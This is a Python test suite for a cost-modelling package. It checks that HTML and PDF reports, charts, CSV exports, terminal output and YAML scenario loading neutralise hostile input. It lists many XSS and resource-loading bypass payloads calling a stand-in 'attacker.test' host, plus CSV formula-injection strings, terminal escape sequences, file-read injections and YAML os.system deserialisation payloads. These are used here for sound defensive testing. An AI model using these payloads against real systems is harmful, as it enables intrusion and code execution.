"""Nothing gets in: texts of a user are shown and never run, and pages load nothing."""

import io
import json
import re
from xml.etree import ElementTree

import matplotlib
import nbformat
import pandas as pd
import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner
from in_chromium import CHROMIUM, chromium
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from pypdf import PdfReader

import costmodel as cm
from costmodel.cli import main
from costmodel.core.files import as_csv
from costmodel.pages.commands import find_notebook
from costmodel.pages.report.html import Meta, document, html_page
from costmodel.pages.report.pdf import typeset
from costmodel.pages.terminal import as_json

HOST = "http://attacker.test"
BYPASSES = [
    "<script src='H/a.js'></script>",
    "<ScRiPt>fetch('H/b')</sCrIpT>",
    "<img src=x onerror=fetch('H/c')>",
    "<a href='JaVaScRiPt:fetch(1)'>d</a>",
    "<a href='&#106;avascript:fetch(1)'>e</a>",
    "<a href='java&#10;script:fetch(1)'>f</a>",
    "<a href='&#x6A;&#x61;vascript&colon;fetch(1)'>g</a>",
    "<a href='data:text/html,<script>fetch(1)</script>'>h</a>",
    "<a href=' \x01javascript:fetch(1)'>i</a>",
    "<svg><image href='H/j.png'/></svg>",
    "<svg><image xlink:href='H/k.png'/></svg>",
    "<svg><script>fetch('H/l')</script></svg>",
    "<svg><use href='H/m.svg#x'/></svg>",
    "<svg><animate onbegin=fetch('H/n') attributeName=x dur=1s></svg>",
    "<p style=\"background:url('H/o.png')\">o</p>",
    "<p style='background:u\\72l(H/p.png)'>p</p>",
    "<p style='background:\\75 rl(H/q.png)'>q</p>",
    "<p style='background-image:image-set(\"H/r.png\" 1x)'>r</p>",
    "<style>@import 'H/s.css';</style>",
    "<style>@\\69mport 'H/t.css';</style>",
    "<style>p{background:image-set('H/u.png' 1x)}</style>",
    "<style>@font-face{font-family:x;src:u\\72l(H/v.woff)} p{font-family:x}</style>",
    "<iframe srcdoc='<img src=H/w.png>'></iframe>",
    "<img srcset='H/x.png 1x' src='data:image/png;base64,AA=='>",
    "<picture><source srcset='data:image/png;base64,AA==, H/y.png 2x'><img alt=y></picture>",
    "<video poster='H/z.png'><track src='H/z.vtt'></video>",
    "<link rel=stylesheet href='H/1.css'><meta http-equiv=refresh content='0;url=H/2'>",
    "<table background='H/3.png'><tr><td background='H/4.png'>x</td></tr></table>",
    "<form action='H/5'><input type=image src='H/6.png'></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=fetch('H/7')>",
    "<noscript><p title='</noscript><img src=x onerror=fetch(1)>'></noscript>",
    "<object data='H/8'></object><embed src='H/9'>",
    "<img src='data:text/html,<script>fetch(1)</script>'><img src='%00'>",
    "<img src='../secret.png'><img src='/etc/hostname'><img src='%2e%2e/secret.png'>",
]
KEPT = "<p><i class='a' style='color: red'>kept</i></p>"
LOADING = re.compile(
    r"javascript:|fetch\(|onerror|onbegin|@import|image-set|@font-face|url\(", re.I
)
browser = pytest.mark.skipif(CHROMIUM is None, reason="browser tests not run: no Chromium found")


def notebook(*texts):
    return new_notebook(
        cells=[
            cell
            for text in texts
            for cell in (
                new_markdown_cell(text),
                new_code_cell("", outputs=[new_output("display_data", {"text/html": text})]),
            )
        ]
    )


def page(*texts, folder):
    meta = Meta("T", folder=folder)
    return html_page(document(notebook(*texts), meta), meta)


def assert_loads_nothing(html):
    soup = BeautifulSoup(html.partition("<body")[2], "html.parser")
    assert not soup(["script", "link", "iframe", "object", "embed", "form", "svg", "video", "meta"])
    for tag in soup(True):
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else value
            assert not name.startswith("on") and not LOADING.search(text), (tag.name, name, text)
            if name in ("src", "srcset"):
                assert text.startswith("data:image/") and "attacker" not in text
            elif name not in ("href", "alt"):
                assert "attacker" not in text
    for style in soup("style"):
        assert not LOADING.search(style.get_text())


@pytest.mark.parametrize("bypass", BYPASSES)
def test_html_of_an_author_loads_and_runs_nothing(bypass, tmp_path):
    (tmp_path / "secret.png").write_bytes(b"secret")
    (tmp_path / "book").mkdir()
    html = page(bypass.replace("H/", f"{HOST}/"), KEPT, folder=tmp_path / "book")
    assert_loads_nothing(html)
    kept = BeautifulSoup(html, "html.parser").find("i", class_="a")
    assert kept["style"] == "color: red" and kept.get_text() == "kept"
    assert "c2VjcmV0" not in html  # the picture outside of the folder, in base 64


def test_a_picture_of_the_folder_is_inside_the_page(tmp_path):
    (tmp_path / "ours.png").write_bytes(b"secret")
    assert "data:image/png;base64,c2VjcmV0" in page("![x](ours.png)", folder=tmp_path)


@pytest.mark.browser
@browser
def test_a_browser_asks_nobody(tmp_path):
    """All of them on one page, in a Chromium that says what it asks for."""
    path = tmp_path / "page.html"
    path.write_text(
        page(*(x.replace("H/", f"{HOST}/") for x in BYPASSES), folder=tmp_path), encoding="utf-8"
    )
    asked = []
    with chromium() as tab:
        tab.on("request", lambda request: asked.append(request.url))
        tab.goto(path.as_uri())
        tab.wait_for_load_state("networkidle")
        shown = tab.inner_text("body")
    assert [url for url in asked if not url.startswith(("data:", "file:"))] == []
    assert [url for url in asked if url.startswith("file:")] == [path.as_uri()]
    assert "o" in shown and "q" in shown


def test_typst_shows_what_is_written_and_reads_no_file(tmp_path):
    text = '#read("/etc/hostname") #import "x.typ": * $ x $ #sys.version `raw` <label> @ref \\'
    meta = Meta("#panic()", folder=tmp_path, byline='#read("/etc/passwd")')
    made = document(notebook(f"<p>{text.replace('<', '&lt;')}</p>"), meta)
    shown = PdfReader(io.BytesIO(typeset(made, meta))).pages[0].extract_text()
    for word in ("#panic()", '#read("/etc/hostname")', "#import", "#sys.version", "@ref"):
        assert word.replace('"', "") in shown.replace('"', "").replace("“", "").replace("”", "")


# -- figures ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("label", ["$\\frac{a$", "US$ 5 and $10", "a_b^c $x_1$", "<b>&amp;</b>"])
def test_every_text_of_a_user_is_plain_in_a_figure(label):
    table = pd.DataFrame(
        {"option": [label, "b"], "phase": "serving", "usd": [2e5, 1e5], "month": 1, "item": label}
    )
    ax = cm.plots.plot_lifecycle(table)
    out = io.BytesIO()
    with matplotlib.rc_context({"svg.fonttype": "none"}):
        ax.figure.savefig(out, format="svg")
    shown = "".join(ElementTree.fromstring(out.getvalue()).itertext())
    assert "".join(label.split()) in "".join(shown.split())


# -- spreadsheets and the terminal -----------------------------------------------------------------


SIGNS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    " =",
    "\n+",
    "\u00a0-",
    "\u200b@",
    "＝",
    "＋",
    "－",
    "\t＠",
]


@pytest.mark.parametrize("sign", SIGNS)
def test_a_cell_of_text_is_no_formula(sign):
    table = pd.DataFrame(
        {"why": [f"{sign}cmd|' /C calc'!A0"], f"{sign}usd": [-1.5]}, index=[f"{sign}1+1"]
    )
    made = pd.read_csv(io.StringIO(as_csv(table)), index_col=0, lineterminator="\n")
    assert made.index[0] == f"'{sign}1+1" and made["why"].item().startswith(f"'{sign}cmd")
    assert made.iloc[0, 1] == -1.5 and list(made.columns)[1] == f"'{sign}usd"


TEXT = """title: "a\\e]0;owned\\a\\e[31m red"
terms: {on: 2026-11-20, months: 3}
workload: {requests_per_month: 1e5, input_tokens: 900, output_tokens: 250}
options: {"=HYPERLINK(1)\\e[2J": {serving: {api: gpt-4o}}}
draws: 20
"""


@pytest.fixture
def scenario(tmp_path):
    path = tmp_path / "mine.yaml"
    path.write_text(TEXT)
    return path


def test_escapes_for_a_terminal_are_shown_and_not_sent(scenario, tmp_path):
    for args in (["compare", scenario], ["compare", scenario, "--json"], ["lint", scenario]):
        said = CliRunner().invoke(main, [str(arg) for arg in args])
        assert said.exit_code == 0
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", said.output)
    shown = CliRunner().invoke(main, ["compare", str(scenario)]).output
    assert "\\x1b]0;owned" in shown
    told = json.loads(CliRunner().invoke(main, ["compare", str(scenario), "--json"]).output)
    assert told["data"]["title"] == "a\x1b]0;owned\x07\x1b[31m red"
    assert json.loads(as_json("x", {"a": "\x9b1m\u202e"}))["data"] == {"a": "\x9b1m\u202e"}
    refused = CliRunner().invoke(main, ["compare", "no\x1b[31msuch.yaml"])
    assert refused.exit_code == 2 and "\x1b" not in refused.output and "\\x1b" in refused.output


def test_a_label_that_is_a_formula_is_quoted_in_the_csv(scenario, tmp_path):
    out = tmp_path / "t.csv"
    assert CliRunner().invoke(main, ["compare", str(scenario), "--csv", str(out)]).exit_code == 0
    assert pd.read_csv(out)["option"].item().startswith("'=HYPERLINK(1)")


# -- names -----------------------------------------------------------------------------------------


def test_names_of_the_package_win_over_files_of_the_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name in ("support_assistant", "01_which_approach", "board"):
        (tmp_path / name).write_text(TEXT)
        nbformat.write(new_notebook(), tmp_path / f"{name}.ipynb")
    assert cm.load("support_assistant").title == "Support assistant over a knowledge base"
    assert cm.load("./support_assistant").title.startswith("a\x1b")
    assert find_notebook("01_which_approach").parent != tmp_path
    assert str(find_notebook("01_which_approach.ipynb")) == "01_which_approach.ipynb"


def test_a_path_needs_a_separator_or_an_ending(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "mine").write_text(TEXT)
    with pytest.raises(ValueError, match="no scenario 'mine'"):
        cm.load("mine")
    assert cm.load("./mine").terms.months == 3


# -- files that are no scenario --------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        "root:x:0:0:root:/root:/bin/bash\n",
        "aws_secret_access_key: hunter2\npassword: hunter2\n",
        "-----BEGIN KEY-----\nhunter2: {[\n",
        "hunter2: 1\nhunter2: 2\n",
        "!!python/object/apply:os.system ['echo hunter2']\n",
    ],
)
def test_a_file_that_is_no_scenario_is_refused_without_quoting_it(content, tmp_path):
    path = tmp_path / "secret.yaml"
    path.write_text(content)
    with pytest.raises(ValueError, match="is no scenario: it has no workload") as error:
        cm.load(path)
    assert str(error.value) == (
        "secret.yaml is no scenario: it has no workload; write workload: ..."
    )


def test_nothing_in_a_scenario_is_run(tmp_path):
    mark = tmp_path / "ran"
    for value in (
        f"!!python/object/apply:os.system ['touch {mark}']",
        "!!python/name:os.system ''",
    ):
        text = TEXT.replace("draws: 20", f"draws: 20\nnote: {value}")
        study_or_error = None
        try:
            study_or_error = cm.load(text).note
        except ValueError as error:
            study_or_error = str(error)
        assert study_or_error == "" or "note" in study_or_error
        assert not mark.exists()
